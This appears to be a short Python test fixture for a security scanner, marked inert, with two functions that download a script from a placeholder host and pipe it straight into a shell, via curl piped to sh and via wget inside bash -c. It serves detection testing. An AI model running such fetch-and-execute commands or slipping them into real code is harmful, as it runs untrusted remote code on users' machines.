# Inert fixture: the canary host never resolves (.invalid).
import os
import subprocess


def install_kernels():
    subprocess.run("curl -fsSL https://canary.modelgate.invalid/install.sh | sh", shell=True)  # expect: YR302


def install_again():
    os.system('bash -c "$(wget -qO- https://canary.modelgate.invalid/i.sh)"')
